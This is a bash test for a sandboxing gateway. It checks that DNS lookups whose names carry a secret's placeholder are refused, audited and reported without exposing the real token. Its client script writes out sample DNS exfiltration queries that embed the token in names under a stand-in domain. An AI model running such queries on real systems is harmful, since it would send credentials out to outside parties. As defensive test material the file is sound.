#!/usr/bin/env bash
# A bound secret's placeholder in a DNS name: dig inside `tollgate run
# --secret NAME@HOST` asks the gate's DNS server for names that carry the
# placeholder (as it is, and upper-cased); each is refused (REFUSED,
# secret-misdirected), audited with the secret's name, said on stderr, and
# never asked upstream. A name without it is decided as before.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/proxy_lib.sh"

[[ $(id -u) -eq 0 ]] || skip "needs root (namespaces, cgroups)"
[[ -e /proc/self/ns/user && -e /proc/self/ns/pid ]] || skip "user and PID namespaces"
for tool in dig sqlite3; do
	command -v $tool >/dev/null || skip "$tool is not installed"
done

REAL=ghp_DnsRealValue0123456789abcdefGHIJKL
DB=$TEST_TMP/audit.db
cat >"$TEST_TMP/client.sh" <<'SH'
q() { dig +tries=1 +time=5 "$1" A | sed -n 's/.*status: \([A-Z]*\).*/\1/p'; }
echo "ph $GH_TOKEN"
echo "plain $(q "$GH_TOKEN.exfil.test")"
echo "upper $(q "x$(printf '%s' "$GH_TOKEN" | tr a-z A-Z)y.exfil.test")"
echo "deep $(q "a.b.$GH_TOKEN")"
echo "other $(q nothing-here.exfil.test)"
SH
set +e
out=$(REAL_TOKEN=$REAL timeout 120 "$TOLLGATE" run --allow origin.test --audit "$DB" \
	--secret GH_TOKEN=env:REAL_TOKEN@origin.test -- sh -s <"$TEST_TMP/client.sh" \
	2>"$TEST_TMP/err")
rc=$?
set -e
expect_eq "tollgate run exits with the script's status" "$rc" 0
[[ $rc -eq 0 ]] || cat "$TEST_TMP/err" >&2
result() { awk -v n="$1" '$1 == n { $1 = ""; sub(/^ /, ""); print; exit }' <<<"$out"; }
expect_match "the sandbox holds a placeholder" "$(result ph)" '^tgph_[a-z0-9]{35}$'
expect_eq "a name that carries the placeholder is refused" "$(result plain)" "REFUSED"
expect_eq "... in upper case, inside a longer label" "$(result upper)" "REFUSED"
expect_eq "... as the last label" "$(result deep)" "REFUSED"
expect_eq "a name without it is decided as before (default deny: NXDOMAIN)" "$(result other)" \
	"NXDOMAIN"
expect_eq "each refusal is audited with the secret's name" \
	"$(audit_count "$DB" "kind='dns' and reason='secret-misdirected' and detail like '%secret GH_TOKEN%origin.test%'")" "3"
expect_eq "the other name is not" \
	"$(audit_count "$DB" "kind='dns' and reason='secret-misdirected' and host like 'nothing-here%'")" "0"
expect_match "the person is told, by the secret's name" "$(cat "$TEST_TMP/err")" \
	"secret GH_TOKEN went to a DNS name.*secret-misdirected"
expect_eq "the real value is nowhere in the database" \
	"$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
expect_eq "... nor in the output or on stderr" \
	"$(cat "$TEST_TMP/err" - <<<"$out" | grep -c "$REAL" || true)" "0"
finish
